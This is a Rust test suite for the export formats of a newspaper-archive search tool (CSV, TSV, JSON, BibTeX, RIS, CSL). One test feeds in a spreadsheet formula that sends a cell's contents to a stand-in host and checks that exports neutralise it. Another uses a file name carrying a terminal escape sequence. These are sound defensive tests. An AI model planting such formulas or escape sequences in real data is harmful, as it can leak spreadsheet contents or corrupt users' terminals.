//! Answers as other programs read them.

use serde_json::{Value, json};

use crate::sandbox::{Sandbox, keys, text};

const FORMATS: [&str; 5] = ["--csv", "--tsv", "--bibtex", "--ris", "--csl"];

fn archive() -> Sandbox {
    Sandbox::of_articles(&[
        json!({"title": "Dockers \"strike\", over pay", "date": "1923-05-04", "source": "Daily Echo",
               "section": "Labour", "author": "Jane Doe", "language": "en",
               "text": "The dockers of Cork went on strike on Thursday. They ask for more pay.\nThe port was silent."}),
        json!({"title": "Port silent", "date": "1923-05", "source": "Echo & Sons {100%}", "language": "en",
               "text": "Coal heavers joined the general strike."}),
        json!({"title": "", "text": "An old man remembers the strike."}),
    ])
}

#[test]
fn a_table_begins_with_its_columns() {
    let sandbox = archive();
    let output = sandbox.run([
        "query",
        "strike",
        "--sort",
        "oldest",
        "--csv",
        "--fields",
        "rank,date,title,byline,places",
    ]);
    insta::assert_snapshot!(output, @r#"
    rank,date,title,byline,places
    1,1923-05,Port silent,,
    2,1923-05-04,"Dockers ""strike"", over pay",Jane Doe,Cork
    3,,,,
    ----- stderr
    read as  strike
    ----- exit 0
    "#);
    let output = sandbox.run(["query", "strike", "--tsv"]);
    let header = output.stdout.lines().next().unwrap();
    assert!(
        header.starts_with("rank\tid\tdate\tdate_precision\ttitle\t"),
        "{output}"
    );
    assert!(header.contains("\tsnippets\t"));
    assert_eq!(output.stdout.lines().count(), 4, "{output}");
    let output = sandbox.run(["query", "strike", "--tsv", "--no-snippet"]);
    assert!(!output.stdout.contains("snippets"), "{output}");
}

#[test]
fn fields_alone_give_lines_for_other_tools() {
    let sandbox = archive();
    let output = sandbox.run([
        "query",
        "strike",
        "--sort",
        "oldest",
        "--fields",
        "date,source,title",
    ]);
    assert_eq!(
        output.stdout,
        "1923-05\tEcho & Sons {100%}\tPort silent\n1923-05-04\tDaily Echo\tDockers \"strike\", over pay\n\t\t\n"
    );
    let output = sandbox.run([
        "query", "strike", "--fields", "snippets", "--sort", "newest", "-n", "1",
    ]);
    assert_eq!(output.stdout, "Coal heavers joined the general strike.\n");
}

#[test]
fn passages_have_as_many_words_as_asked_for() {
    let sandbox = archive();
    for (words, shown) in [
        ("0", "pay\n"),
        ("2", "for more pay.\n"),
        (
            "99",
            "The dockers of Cork went on strike on Thursday. They ask for more pay.\n",
        ),
    ] {
        let output = sandbox.run([
            "query", "dockers", "pay", "--fields", "snippets", "-C", words,
        ]);
        assert!(output.stdout.ends_with(shown), "{words} {output}");
    }
    assert_eq!(
        sandbox
            .run(["query", "pay", "-C", "3", "--no-snippet"])
            .code,
        2
    );
}

#[test]
fn fields_choose_the_keys_of_json() {
    let sandbox = archive();
    let output = sandbox.run([
        "query",
        "coal",
        "--json",
        "--fields",
        "title,section,date_to,snippets",
    ]);
    let lines = output.lines();
    assert_eq!(keys(&lines[0]), ["title", "section", "date_to", "snippets"]);
    assert_eq!(lines[0]["date_to"], "1923-05-31");
    assert_eq!(lines[0]["section"], Value::Null);
    let whole = sandbox.hits(["coal"]);
    assert_eq!(lines[0]["snippets"], whole[0]["snippets"]);
    // The same number, whichever way it is printed.
    let score = sandbox.run(["query", "coal", "--json", "--fields", "score"]);
    assert_eq!(score.lines()[0]["score"], whole[0]["score"]);
}

#[test]
fn a_field_that_is_none_is_an_error() {
    let sandbox = archive();
    for fields in ["titel", "", "title,,date", "title,"] {
        let output = sandbox.run(["query", "--json", "strike", "--fields", fields]);
        assert_eq!(output.code, 2, "{fields}");
        assert_eq!(output.error()["code"], "E-FIELDS", "{fields}");
        assert!(text(&output.error()["help"]).contains("date_precision"));
    }
    let help = sandbox.run(["query", "--help"]).stdout;
    for field in ["date_precision", "dateline", "snippets", "--bibtex"] {
        assert!(help.contains(field), "{field}");
    }
}

#[test]
fn one_answer_has_one_format() {
    let sandbox = archive();
    for first in FORMATS {
        for second in ["--json", "-c", "-l", "-0", "--csv", "--ris"] {
            if first != second {
                assert_eq!(
                    sandbox.run(["query", "strike", first, second]).code,
                    2,
                    "{first} {second}"
                );
            }
        }
    }
    for format in ["--bibtex", "--ris", "--csl", "-c", "-l", "-0"] {
        let output = sandbox.run(["query", "strike", "--fields", "title", format]);
        assert_eq!(output.code, 2, "{format} has its own fields");
    }
}

#[test]
fn citations_of_an_answer() {
    let sandbox = archive();
    let output = sandbox.run(["query", "strike", "--sort", "oldest", "--bibtex"]);
    assert_eq!(output.stdout.matches("@article{").count(), 3, "{output}");
    assert!(
        output
            .stdout
            .contains("journal = {Echo \\& Sons \\textbraceleft{}100\\%\\textbraceright{}}"),
        "{output}"
    );
    assert!(output.stdout.contains("author = {Doe, Jane}"), "{output}");
    let output = sandbox.run(["query", "strike", "--sort", "oldest", "--ris"]);
    assert_eq!(
        output.stdout.matches("TY  - NEWS\r\n").count(),
        3,
        "{output}"
    );
    assert!(output.stdout.contains("DA  - 1923/05//\r\n"), "{output}");
    let output = sandbox.run(["query", "strike", "--sort", "oldest", "--csl"]);
    let items: Value = serde_json::from_str(&output.stdout).unwrap();
    assert_eq!(items[0]["issued"]["date-parts"], json!([[1923, 5]]));
    assert_eq!(
        items[1]["author"],
        json!([{"family": "Doe", "given": "Jane"}])
    );
    assert_eq!(items[2].get("issued"), None);
}

#[test]
fn nothing_found_is_still_well_formed() {
    let sandbox = archive();
    for (flag, shown) in [("--bibtex", ""), ("--ris", ""), ("--csl", "[]\n")] {
        for arguments in [
            vec!["zeppelin"],
            vec!["strike", "-n", "0"],
            vec!["strike", "--offset", "99"],
        ] {
            let mut all = vec!["query", flag];
            all.extend(&arguments);
            let output = sandbox.run(&all);
            assert_eq!(output.stdout, shown, "{all:?}");
            assert_eq!(
                output.code,
                i32::from(arguments[0] == "zeppelin"),
                "{all:?}"
            );
        }
    }
    let output = sandbox.run(["query", "zeppelin", "--csv", "--fields", "id,title"]);
    assert_eq!((output.stdout.as_str(), output.code), ("id,title\n", 1));
}

#[test]
fn every_format_gives_every_hit_in_the_same_order() {
    let stories: Vec<Value> = (0..60)
        .map(|n| json!({"title": format!("Story {n}"), "text": "strike ".repeat(n % 7 + 1)}))
        .collect();
    let sandbox = Sandbox::of_articles(&stories);
    let ids: Vec<String> = sandbox
        .hits(["strike", "--all"])
        .iter()
        .map(|hit| text(&hit["id"]))
        .collect();
    assert_eq!(ids.len(), 60);
    for format in FORMATS {
        let output = sandbox.run(["query", "strike", "--all", format]).stdout;
        let at: Vec<usize> = ids
            .iter()
            .map(|id| output.find(id.as_str()).unwrap())
            .collect();
        assert!(at.is_sorted(), "{format}");
    }
}

#[test]
fn no_cell_of_a_table_is_a_formula() {
    let formula = "=HYPERLINK(\"http://x/?\"&A1)";
    let sandbox = Sandbox::new();
    let article = json!({"title": formula, "source": "@Echo", "author": "+Jane Doe", "section": "-A", "text": "=strike", "language": "en"});
    sandbox.write("corpus/=a.json", article.to_string());
    sandbox.index();
    for flag in ["--csv", "--tsv"] {
        let output = sandbox.run(["query", "strike", flag]);
        let mut rows = csv::ReaderBuilder::new();
        rows.delimiter(if flag == "--csv" { b',' } else { b'\t' })
            .quoting(flag == "--csv");
        let mut rows = rows.from_reader(output.stdout.as_bytes());
        let head = rows.headers().unwrap().clone();
        let row = rows.records().next().unwrap().unwrap();
        for (name, cell) in head.iter().zip(&row) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "{flag} {name} {cell}"
            );
        }
        let cell = |name| {
            row.get(head.iter().position(|head| head == name).unwrap())
                .unwrap()
        };
        assert_eq!(cell("title"), format!("'{formula}"), "{flag}");
        assert_eq!(
            (cell("file"), cell("source"), cell("rank")),
            ("'=a.json", "'@Echo", "1")
        );
        let facets = sandbox.run(["query", "strike", flag, "--facet", "source,section"]);
        assert!(
            facets.stdout.contains("'@Echo") && facets.stdout.contains("'-A"),
            "{facets}"
        );
    }
    let output = sandbox.run(["query", "strike", "--fields", "title,file"]);
    assert_eq!(output.stdout, format!("{formula}\t=a.json\n"));
    assert_eq!(sandbox.hits(["strike"])[0]["title"], formula);
    let help = sandbox.run(["query", "--help"]).stdout;
    assert!(help.contains("apostrophe"), "{help}");
}

#[cfg(unix)]
#[test]
fn paths_that_are_not_text_break_no_format() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;

    let sandbox = Sandbox::new();
    let name = OsStr::from_bytes(b"corpus/caf\xe9\t\x1b[2J.txt");
    sandbox.write(name, "Strike\n\nThe dockers went on strike.\n");
    sandbox.index();
    for format in FORMATS {
        let output = sandbox.run(["query", "strike", format]);
        assert_eq!(output.code, 0, "{format} {output}");
        assert!(!output.stdout.contains('\x1b'), "{format} {output}");
    }
    let output = sandbox.run(["query", "strike", "--fields", "file_bytes,title"]);
    assert_eq!(output.stdout, "636166e9091b5b324a2e747874\tStrike\n");
    assert_eq!(
        sandbox
            .run(["query", "strike", "--tsv", "--fields", "file"])
            .stdout
            .lines()
            .count(),
        2
    );
}
